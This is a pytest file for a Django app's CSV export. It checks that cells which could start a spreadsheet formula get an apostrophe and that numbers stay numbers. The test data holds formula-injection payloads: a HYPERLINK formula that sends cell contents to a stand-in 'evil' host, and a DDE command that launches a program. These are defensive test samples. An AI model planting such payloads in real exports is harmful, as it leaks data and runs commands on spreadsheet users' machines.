"""A CSV export opens in a spreadsheet as data: no cell starts a formula, and numbers,
negative ones included, stay numbers."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

ROOT = Path(__file__).resolve().parent.parent
FORMULA = "=HYPERLINK(\"http://evil/?\"&A1,\"click\")"


def spreadsheet_cell(value):
    """The rule under test, imported when a test runs, not when the file is collected."""
    from transferability.exports import spreadsheet_cell

    return spreadsheet_cell(value)


@pytest.mark.parametrize("text", [
    "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-", "+",
    "-0.5 or so", "-inf", "-nan", "=0.5",
])
def test_text_that_would_start_a_formula_gets_an_apostrophe(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("value", [
    "-0.53", "-1e-05", "+3", "-12", "-.5", "1.5e+300", "0", "plain text", "", "a=b", "x-1",
])
def test_numbers_and_ordinary_text_are_left_as_they_are(value):
    assert spreadsheet_cell(value) == value


@pytest.mark.parametrize("value", [-0.53, -12, 0.0, None, True])
def test_values_that_are_not_text_are_left_as_they_are(value):
    assert spreadsheet_cell(value) is value


@pytest.mark.django_db
def test_every_cell_of_the_evaluation_export_is_safe_and_scores_stay_numbers(client, owner):
    from tests.transferability.test_pages import finished_evaluation
    from zoo.models import Checkpoint

    evaluation = finished_evaluation(owner)
    Checkpoint.objects.filter(name="alpha-net").update(name=FORMULA, architecture="@resnet")
    client.force_login(owner)

    response = client.get(reverse("evaluation-export", args=[evaluation.pk, "csv"]))

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    header, body = rows[0], rows[1:]
    number = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
    for row in body:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or number.fullmatch(cell)
    evil = next(dict(zip(header, row)) for row in body if "HYPERLINK" in row[2])
    assert evil["checkpoint"] == "'" + FORMULA
    assert evil["architecture"] == "'@resnet"
    assert evil["logme"] == "-0.5"  # alpha-net's score: a negative number, kept a number


def test_every_csv_export_writes_through_the_one_rule():
    """csv.writer appears only in transferability/exports.py: a new export that used it
    directly would skip the rule."""
    writers = [path.relative_to(ROOT).as_posix()
               for folder in ("config", "transferability", "workers", "zoo")
               for path in (ROOT / folder).rglob("*.py")
               if "csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text()]
    assert writers == ["transferability/exports.py"]
